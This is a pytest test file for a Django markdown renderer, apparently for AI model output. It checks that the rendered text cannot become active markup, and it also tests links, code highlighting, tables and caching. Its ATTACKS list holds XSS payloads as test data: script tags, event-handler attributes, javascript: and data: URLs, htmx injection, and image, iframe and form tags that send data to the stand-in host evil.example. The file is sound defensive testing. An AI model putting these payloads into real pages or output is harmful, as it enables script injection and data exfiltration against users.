"""Model output is data: whatever it says, the page gets harmless HTML."""

import pytest
from bs4 import BeautifulSoup
from django.test import override_settings
from django.utils.safestring import SafeString

from agentos.core.rendering import markdown

ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<div hx-post='/agentos/' hx-trigger='load'></div>",
    "<hx-partial hx-target='#turns'>x</hx-partial>",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](data:text/html,<script>alert(1)</script>)",
    "[click](vbscript:msgbox)",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/?secret=1)",
    "![x][ref]\n\n[ref]: https://evil.example/pixel.png",
    '[x](https://a.example/"onmouseover="alert(1))',
    "[x](<https://a.example/ onclick=alert(1)>)",
    '```html" onclick="alert(1)\n<b>\n```',
    "```<script>\nx\n```",
    "| a |\n|---|\n| <svg onload=alert(1)> |",
    "&lt;script&gt;",
    "<style>*{display:none}</style>",
    "<!-- --><iframe src=//evil.example></iframe>",
    "<base href=//evil.example>",
    "<form action=//evil.example><input name=a></form>",
    "**<b onclick=alert(1)>x</b>**",
    "# <a name=turns>",
]


@pytest.mark.parametrize("text", ATTACKS)
def test_no_attack_becomes_markup(text: str) -> None:
    html = markdown.render(text).lower()
    for forbidden in ("<script", "<img", "<svg", "<iframe", "<style", "<base", "<form", "<input", "<hx-", "<b "):
        assert forbidden not in html
    for element in BeautifulSoup(html, "html.parser").find_all(True):
        assert set(element.attrs) <= {"href", "rel", "target", "title", "class", "tabindex", "role", "aria-label", "data-language"}
        assert str(element.get("href", "https:")).startswith(("http", "mailto:"))


class TestRender:
    def test_marks_links_as_somebody_elses(self) -> None:
        assert 'rel="noopener noreferrer nofollow ugc"' in markdown.render("[a](https://example.com)")

    @pytest.mark.parametrize(
        "text", ["[a](https://example.com)", "https://example.com", "[a](/agentos/)", "![a](https://example.com/a.png)"]
    )
    def test_opens_links_in_a_tab_of_their_own(self, text: str) -> None:
        assert 'target="_blank"' in markdown.render(text)

    @pytest.mark.parametrize("text", ["[a](#turn-1)", "[a](mailto:ada@example.com)", "One[^1].\n\n[^1]: Note"])
    def test_opens_no_tab_for_what_is_no_page(self, text: str) -> None:
        assert "<a " in markdown.render(text)
        assert "target" not in markdown.render(text)

    def test_makes_links_of_bare_addresses(self) -> None:
        assert '<a href="https://example.com/x"' in markdown.render("see https://example.com/x.")

    def test_shows_an_image_as_a_link_that_names_its_host(self) -> None:
        html = markdown.render("![chart](https://evil.example/c.png)")
        assert "<img" not in html
        assert "chart (image at evil.example)" in html

    def test_highlights_code_of_a_known_language(self) -> None:
        html = markdown.render("```python\ndef f(): pass\n```")
        assert '<div class="code" data-language="python">' in html
        assert '<span class="k">def</span>' in html

    def test_keeps_code_of_an_unknown_language_as_it_is(self) -> None:
        assert "a &lt; b" in markdown.render("```nolang\na < b\n```")

    def test_lets_tables_scroll_inside_themselves_and_aligns_by_class(self) -> None:
        html = markdown.render("| a | b |\n|---|--:|\n| 1 | 2 |")
        assert 'class="table-scroll"' in html
        assert '<td class="right">' in html
        assert "style" not in html

    def test_puts_headings_below_the_pages_own(self) -> None:
        assert "<h2>" in markdown.render("# A")

    @pytest.mark.parametrize("text", ["[" * 50_000, "*" * 50_000, ">" * 50_000, "|a" * 30_000 + "\n" + "|-" * 30_000, "`" * 50_000])
    def test_is_not_brought_to_its_knees(self, text: str) -> None:
        markdown.render(text)

    def test_shows_a_text_beyond_the_limit_as_it_is(self) -> None:
        assert markdown.render("*a* " * markdown.RENDERED_LIMIT).startswith('<p class="as-written">')


class TestRenderCached:
    def test_gives_what_render_gives(self) -> None:
        for _ in range(2):
            assert markdown.render_cached("*a*") == markdown.render("*a*")

    def test_finds_it_again(self, monkeypatch: pytest.MonkeyPatch) -> None:
        found = markdown.render_cached("*found*")
        monkeypatch.setattr(markdown, "render", None)
        assert markdown.render_cached("*found*") == found

    @override_settings(
        CACHES={"default": {"BACKEND": "agentos.core.ratelimit.shared_cache.SharedCache", "LOCATION": "redis://127.0.0.1:9"}}
    )
    def test_does_without_a_cache(self) -> None:
        assert "<em>a</em>" in markdown.render_cached("*a*")


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("One.", "<p>One.<b>"),
        ("- one\n- **two**:", "<strong>two</strong>:<b></b></li>"),
        ("- one\n\n- two", "<p>two<b></b></p>"),
        ("- one\n  1. two", "<li>two<b></b></li>"),
        ("## Head", "</h3>\n<b></b>"),
        ("```\nx\n```", "</div>\n<b></b>"),
    ],
)
def test_text_ends_with_more_in_its_last_paragraph_or_item(text: str, expected: str) -> None:
    html = markdown.ending_with(markdown.render(text), SafeString("<b></b>"))
    assert expected in html
    assert html.replace("<b></b>", "") == markdown.render(text)
